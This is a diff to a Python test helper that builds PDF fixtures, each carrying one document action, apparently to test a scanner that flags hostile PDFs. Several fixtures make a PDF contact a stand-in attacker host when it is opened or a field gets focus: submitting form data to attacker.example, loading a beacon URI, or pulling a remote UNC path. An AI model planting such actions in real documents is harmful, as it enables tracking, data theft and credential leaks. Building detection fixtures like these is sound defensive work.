@@ -16,6 +16,7 @@ import zipfile
 import zlib
 from collections.abc import Iterable, Sequence
 from pathlib import Path
+from typing import Any
 
 from pypdf import PdfReader, PdfWriter
 from pypdf.generic import (
@@ -24,6 +25,7 @@ from pypdf.generic import (
     DictionaryObject,
     FloatObject,
     NameObject,
+    NullObject,
     NumberObject,
     TextStringObject,
 )
@@ -274,6 +276,139 @@ def make_xfa_pdf(path: Path) -> Path:
             NameObject("/XFA"): writer._add_object(xfa),
         }
     )
+    return _write(writer, path)
+
+
+UNC_PATH = "\\\\attacker.example\\share\\x.pdf"
+
+# One hostile file per action kind (dockets/pdf/actions.py): each fires
+# without a click, or reaches outside the document when clicked.
+HOSTILE_ACTIONS = (
+    "open_gotor",
+    "open_gotoe",
+    "open_importdata",
+    "open_submitform",
+    "open_resetform",
+    "open_hide",
+    "open_named_print",
+    "open_uri",
+    "open_goto_next_uri",
+    "document_aa_uri",
+    "page_aa_gotor",
+    "annotation_aa_uri",
+    "field_aa_submitform",
+    "link_gotor",
+    "link_importdata",
+    "link_named_print",
+    "link_unc_uri",
+    "link_file_uri",
+)
+# Files that do only what Word, Acrobat and browsers write: open at a page,
+# move within the document, link to a web page.
+BENIGN_ACTIONS = (
+    "open_destination",
+    "open_goto",
+    "link_https",
+    "link_goto",
+    "link_named_next",
+)
+
+
+def _action(kind: str, **entries: Any) -> DictionaryObject:
+    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
+    for key, value in entries.items():
+        if isinstance(value, str):
+            value = (
+                NameObject(value) if value.startswith("/") else TextStringObject(value)
+            )
+        action[NameObject("/" + key)] = value
+    return action
+
+
+def make_action_pdf(path: Path, kind: str, *, text: str = DEFAULT_TEXT) -> Path:
+    """Write a two-page text PDF carrying one action of `kind`.
+
+    `kind` is one of HOSTILE_ACTIONS or BENIGN_ACTIONS: "open_*" is the
+    catalog's /OpenAction, "*_aa_*" an /AA entry, "link_*" a link annotation's
+    /A (run by a click).
+    """
+    writer = PdfWriter(clone_from=io.BytesIO(pdf_bytes(pages=2, text=text)))
+    root = writer._root_object
+    page = writer.pages[0]
+    second = writer.pages[1].indirect_reference
+    fit = ArrayObject([second, NameObject("/Fit")])
+    remote = TextStringObject(UNC_PATH)
+    actions = {
+        "gotor": lambda: _action(
+            "/GoToR", F=remote, D=ArrayObject([NumberObject(0), NameObject("/Fit")])
+        ),
+        "gotoe": lambda: _action("/GoToE", F=remote, D=TextStringObject("x")),
+        "importdata": lambda: _action("/ImportData", F=remote),
+        "submitform": lambda: _action(
+            "/SubmitForm", F=TextStringObject("https://attacker.example/collect")
+        ),
+        "resetform": lambda: _action("/ResetForm"),
+        "hide": lambda: _action("/Hide", T=TextStringObject("debtor_name")),
+        "named_print": lambda: _action("/Named", N="/Print"),
+        "named_next": lambda: _action("/Named", N="/NextPage"),
+        "uri": lambda: _action(
+            "/URI", URI=TextStringObject("https://attacker.example/beacon.gif")
+        ),
+        "unc_uri": lambda: _action("/URI", URI=remote),
+        "file_uri": lambda: _action(
+            "/URI", URI=TextStringObject("file://attacker.example/share/x.pdf")
+        ),
+        "https": lambda: _action(
+            "/URI",
+            URI=TextStringObject("https://www.law.cornell.edu/uscode/text/11/362"),
+        ),
+        "goto": lambda: _action("/GoTo", D=fit),
+    }
+    place, _, what = kind.partition("_")
+    if kind == "open_destination":
+        root[NameObject("/OpenAction")] = ArrayObject(
+            [page.indirect_reference, NameObject("/XYZ"), *(NullObject(),) * 3]
+        )
+    elif kind == "open_goto_next_uri":
+        goto = actions["goto"]()
+        goto[NameObject("/Next")] = actions["uri"]()
+        root[NameObject("/OpenAction")] = goto
+    elif place == "open":
+        root[NameObject("/OpenAction")] = actions[what]()
+    elif kind == "document_aa_uri":
+        root[NameObject("/AA")] = DictionaryObject(
+            {NameObject("/WC"): actions["uri"]()}
+        )
+    elif kind == "page_aa_gotor":
+        page[NameObject("/AA")] = DictionaryObject(
+            {NameObject("/O"): actions["gotor"]()}
+        )
+    elif kind == "annotation_aa_uri":
+        _add_annotation(
+            writer,
+            page,
+            {
+                "/Subtype": NameObject("/Link"),
+                "/AA": DictionaryObject({NameObject("/PV"): actions["uri"]()}),
+            },
+        )
+    elif kind == "field_aa_submitform":
+        _add_annotation(
+            writer,
+            page,
+            {
+                "/Subtype": NameObject("/Widget"),
+                "/FT": NameObject("/Tx"),
+                "/T": TextStringObject("debtor_name"),
+                "/AA": DictionaryObject({NameObject("/Fo"): actions["submitform"]()}),
+            },
+        )
+    elif place == "link":
+        _add_annotation(
+            writer, page, {"/Subtype": NameObject("/Link"), "/A": actions[what]()}
+        )
+    else:
+        raise ValueError(kind)
     return _write(writer, path)
 
 
